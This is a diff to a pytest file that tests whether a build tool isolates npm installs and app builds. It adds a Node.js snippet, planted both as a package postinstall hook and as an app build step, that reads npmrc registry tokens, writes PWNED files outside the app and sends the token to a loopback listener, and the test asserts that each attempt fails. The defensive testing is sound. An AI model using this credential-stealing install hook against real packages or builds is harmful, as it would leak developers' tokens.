@@ -2,7 +2,12 @@
 app depends on a scoped package that only a loopback registry serves, and only to a request
 with its token; its lockfile names another (unreachable) host for it. The build must install
 it from the scope's registry with the token, and the token must not be left in the image (its
-history, its config, any file of any layer) or in the build log."""
+history, its config, any file of any layer) or in the build log.
+
+Then the same package turned hostile (a postinstall script) and an app whose own build script is:
+both try to read the token, reach the network and write outside the app. Neither may (the
+install runs no lifecycle script; the build runs with no network, no credentials, no cache, as an
+unprivileged user; docs/security.md)."""
 
 from __future__ import annotations
 
@@ -11,9 +16,11 @@ import hashlib
 import io
 import json
 import secrets
+import socket
 import tarfile
 import tempfile
 import threading
+import time
 import urllib.error
 import urllib.request
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
@@ -35,10 +42,14 @@ pytestmark = [pytest.mark.docker, pytest.mark.slow]
 GREETING = "hello from the acme registry"
 
 
-def _package_tgz() -> bytes:
-    files = {"package/package.json": json.dumps({"name": "@acme/greet", "version": "1.0.0", "type": "module",
-                                                 "main": "index.js"}).encode(),
-             "package/index.js": f"export const greet = {json.dumps(GREETING)};\n".encode()}
+def _package_tgz(postinstall: str | None = None) -> bytes:
+    """@acme/greet; with `postinstall`, a lifecycle script (steal.cjs, that source) runs at install."""
+    pkg = {"name": "@acme/greet", "version": "1.0.0", "type": "module", "main": "index.js"}
+    files = {"package/index.js": f"export const greet = {json.dumps(GREETING)};\n".encode()}
+    if postinstall is not None:
+        pkg["scripts"] = {"postinstall": "node steal.cjs"}
+        files["package/steal.cjs"] = postinstall.encode()
+    files["package/package.json"] = json.dumps(pkg).encode()
     raw = io.BytesIO()
     with tarfile.open(fileobj=raw, mode="w:gz") as tar:
         for name, data in files.items():
@@ -51,8 +62,8 @@ def _package_tgz() -> bytes:
 class _Registry:
     """A loopback npm registry serving @acme/greet only to `Authorization: Bearer <token>`."""
 
-    def __init__(self, token: str) -> None:
-        self.token, self.tgz, self.seen = token, _package_tgz(), []  # type: ignore[var-annotated]
+    def __init__(self, token: str, tgz: bytes | None = None) -> None:
+        self.token, self.tgz, self.seen = token, tgz or _package_tgz(), []  # type: ignore[var-annotated]
         reg = self
 
         class Handler(BaseHTTPRequestHandler):
@@ -192,3 +203,100 @@ def _files_holding(client, ref: str, needle: str, tmp_path: Path) -> list[str]:
     lines = out.decode().split()
     assert lines[-1] in ("exit=0", "exit=1"), lines[-5:]  # 1: no match; anything else: grep failed
     return lines[:-1]
+
+
+# What a hostile package (as its postinstall) and a hostile app (in its build script) try: read the
+# registry credentials, send them to a listener on the host's loopback, write outside the app (the
+# shared npm cache, /hub, /). It leaves its findings in RESULT (the app's folder: they end up in
+# the image when the step is committed).
+_STEAL = r"""
+const fs = require('fs'), net = require('net'), path = require('path');
+const out = {where: WHERE, uid: process.getuid(), read: [], wrote: []};
+let secret = '';
+for (const f of [process.env.npm_config_userconfig, '/run/shinken-npm/npmrc'].filter(Boolean)) {
+  try { secret += fs.readFileSync(f, 'utf8'); out.read.push(f); } catch (e) {}
+}
+out.token_read = secret.includes('_authToken');
+for (const f of ['/npm-cache/PWNED-' + WHERE, '/hub/PWNED-' + WHERE, '/PWNED-' + WHERE]) {
+  try { fs.writeFileSync(f, 'x'); out.wrote.push(f); } catch (e) {}
+}
+const done = (ok) => { out.net = ok; fs.writeFileSync(RESULT, JSON.stringify(out)); process.exit(0); };
+const s = net.connect({host: '127.0.0.1', port: PORT, timeout: 5000});
+s.on('connect', () => s.end(WHERE + ':' + secret, () => done(true)));
+s.on('error', () => done(false));
+s.on('timeout', () => done(false));
+"""
+
+
+def _steal(where: str, port: int, result: str) -> str:
+    return _STEAL.replace("WHERE", json.dumps(where)).replace("PORT", str(port)).replace("RESULT", result)
+
+
+class _Listener:
+    """A TCP listener on the host's loopback that keeps whatever is sent to it."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen()
+        self.port = self.sock.getsockname()[1]
+        self.got: list[bytes] = []
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            with conn:
+                conn.settimeout(10)
+                data = b""
+                try:
+                    while chunk := conn.recv(65536):
+                        data += chunk
+                except OSError:
+                    pass
+                self.got.append(data or b"(connected)")
+
+
+def test_a_hostile_package_and_app_get_no_token_no_network_and_no_write_outside(docker_client, tmp_path: Path) -> None:
+    """On f382b83 the package's postinstall ran as root on the host network beside the mounted
+    token: the listener received the token."""
+    listener = _Listener()
+    token = "shk-" + secrets.token_hex(16)
+    reg = _Registry(token, _package_tgz(postinstall=_steal(
+        "postinstall", listener.port, "require('path').join(process.env.INIT_CWD || '.', 'POSTINSTALL_RAN.json')")))
+    try:
+        root = _checkout(tmp_path / "hub", reg)
+        folder = root / "websites" / "acme_mock"
+        (folder / "steal-build.cjs").write_text(_steal("build", listener.port, "'dist/steal.json'"))
+        lock = json.loads((folder / "package-lock.json").read_text())
+        lock["packages"]["node_modules/@acme/greet"]["hasInstallScript"] = True  # as npm records a postinstall
+        (folder / "package-lock.json").write_text(json.dumps(lock, indent=2) + "\n")
+        pkg = json.loads((folder / "package.json").read_text())
+        pkg["scripts"]["build"] = pkg["scripts"]["build"] + " && node steal-build.cjs"
+        (folder / "package.json").write_text(json.dumps(pkg, indent=2) + "\n")
+        (app,) = select_apps(discover_apps(root), ["acme"])
+        node_tag, node_id, _ = ensure_node_image(docker_client)
+        cfg = npm_config(None, env={"npm_config_userconfig": str(_npmrc(tmp_path, reg, True)), "ACME_NPM_TOKEN": token})
+        cache = tmp_path / "npm-cache"  # the build's shared npm cache: a private one here
+        built = build_app(docker_client, app, node_tag, node_id, _read_ca(None), nocache=True, npm=cfg,
+                          npm_cache=cache)
+        try:
+            time.sleep(1)  # a connection that made it would have been read by now
+            assert listener.got == [], listener.got  # neither the package nor the app reached the host
+            assert ("/@acme/greet/-/greet-1.0.0.tgz", True) in reg.seen  # installed, with the token
+            files = run_container(docker_client, built.tag, ["sh", "-c", "ls /hub/apps/acme; cat /hub/apps/acme/dist/steal.json"],
+                                  remove=True, network_mode="none", labels=labels_for("build", task="test-npmrc")).decode()
+            assert "POSTINSTALL_RAN.json" not in files  # no lifecycle script ran at install
+            found = json.loads(files.strip().splitlines()[-1])
+            assert found["uid"] != 0 and found["net"] is False, found
+            assert found["token_read"] is False and found["read"] == [] and found["wrote"] == [], found
+            assert not list(cache.rglob("PWNED*")), list(cache.rglob("PWNED*"))
+            assert not _files_holding(docker_client, built.tag, token, tmp_path)
+        finally:
+            docker_client.api.remove_image(built.tag, force=True)
+    finally:
+        reg.server.shutdown()
+        listener.sock.close()
